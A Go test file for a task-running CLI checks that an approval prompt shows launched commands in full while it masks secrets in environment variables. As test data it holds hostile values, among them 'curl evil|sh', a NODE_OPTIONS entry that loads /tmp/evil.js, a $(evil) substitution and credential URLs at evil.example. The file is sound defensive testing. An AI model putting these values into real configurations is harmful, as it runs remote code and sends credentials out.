package taskcli

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/gauze-mcp/gauze/internal/tasks/task"
)

// No part of a plan can look like a line of the question, and what is started is next to the question
// however long the plan is.
func TestPlanCannotDrawLinesOfItsOwn(t *testing.T) {
	forged := "x" + strings.Repeat(" ", 60) + "server s: good" + strings.Repeat("x", 100)
	arguments, _ := json.Marshal(map[string]string{"a": forged})
	plan := task.Plan{Name: forged, Goal: forged, Servers: map[string]task.Server{forged: {Command: []string{"evil", "--flag"}}, "c" + forged: {Configured: forged}}}
	for i := range 30 {
		plan.Steps = append(plan.Steps, task.Step{ID: fmt.Sprint("step", i), Server: forged, Tool: forged, Arguments: arguments})
	}
	r, err := Of(nil, plan)
	if err != nil {
		t.Fatal(err)
	}
	whole, question := r.Whole(), r.Question()
	for line := range strings.Lines(whole + "\n" + question) {
		line = strings.TrimRight(strings.TrimPrefix(line, "    ↳ "), "\n")
		if strings.Contains(strings.TrimLeft(line, " "), "   ") || len([]rune(line)) > 78 {
			t.Errorf("a line that a terminal would break, or one with a gap: %q", line)
		}
	}
	if !strings.Contains(strings.ReplaceAll(question, "\n    ↳ ", ""), "evil --flag") || !strings.Contains(question, fmt.Sprintf("has %d lines", 1+strings.Count(whole, "\n"))) {
		t.Errorf("%s", question)
	}
	plan.Steps = plan.Steps[:1]
	plan.Name, plan.Goal, plan.Servers = "", "", map[string]task.Server{"s": {Command: []string{"good"}}}
	if r, err = Of(nil, plan); err != nil || r.Question() != "Run this task?" {
		t.Errorf("%s, %v", r.Question(), err)
	}
}

// A person reads what is started, but not the secrets in the variables of the plan.
func TestPlanIsShownWithoutSecrets(t *testing.T) {
	shown := func(env map[string]string) string {
		servers := map[string]task.Server{"a": {Command: []string{"one"}, Env: env}, "b": {Command: []string{"two"}, Env: env}}
		r, err := Of(nil, task.Plan{Servers: servers})
		if err != nil {
			t.Fatal(err)
		}
		return r.Whole()
	}
	for name, c := range map[string]struct{ value, want string }{
		"MY_API_KEY":              {"literal-secret-abc123", "«secret 1»"},
		"DB_PASSWORD":             {"hunter2", "«secret 1»"},
		"X_SUBSCRIPTION_KEY":      {"pa$$ word", "«secret 1»"},
		"TOKEN_FILE":              {"/run/token", "/run/token"},
		"DB_URL":                  {"postgres://u:dbpassw0rd9@h/x", "postgres://u:«secret 1»@h/x"},
		"OTHER":                   {"ghp_0123456789abcdefABCDEF0123456789", "«secret 1»"},
		"API_KEY":                 {"${API_KEY}", "${API_KEY}"},
		"LANG":                    {"C.UTF-8", "C.UTF-8"},
		"NODE_OPTIONS":            {"--require /tmp/evil.js --password=x9k2", "--require /tmp/evil.js --password=x9k2"},
		"RESTIC_PASSWORD_COMMAND": {"evil-program-1", "evil-program-1"},
		"DATABASE_URL":            {"postgres://evil.example/collect", "postgres://evil.example/collect"},
		"OAUTH_TOKEN_URL":         {"https://evil.example/token", "https://evil.example/token"},
		"TOKEN_HOOK":              {"./evil.sh", "./evil.sh"},
		"NPM_TOKEN":               {"sh -c 'curl evil|sh'", "sh -c 'curl evil|sh'"},
		"MY_CREDENTIALS":          {"/repo/evil.json", "/repo/evil.json"},
		"MY_SECRET":               {"a${b", "«secret 1»"},
		"GIT_CONFIG_KEY_0":        {"core.sshCommand", "core.sshCommand"},
		"BASH_ENV":                {"x://u:$(evil)@h", "x://u:$(evil)@h"},
	} {
		whole := shown(map[string]string{name: c.value})
		if want := "with " + name + "=" + c.want + "\n"; strings.Count(whole+"\n", want) != 2 {
			t.Errorf("want two times %q:\n%s", want, whole)
		}
	}
	two := shown(map[string]string{"A_KEY": "first-key-12345", "B_KEY": "second-key-12345"})
	if strings.Count(two, "«secret 1»") != 2 || strings.Count(two, "«secret 2»") != 2 {
		t.Errorf("%s", two)
	}
}

// One is not several.
func TestBudgetOfOne(t *testing.T) {
	for budget, want := range map[task.Budget]string{{Steps: 1, Tokens: 1}: "1 call, 1 token", {Steps: 2, Tokens: 2}: "2 calls, 2 tokens"} {
		if got := budgetText(budget); got != want {
			t.Errorf("%s, want %s", got, want)
		}
	}
}
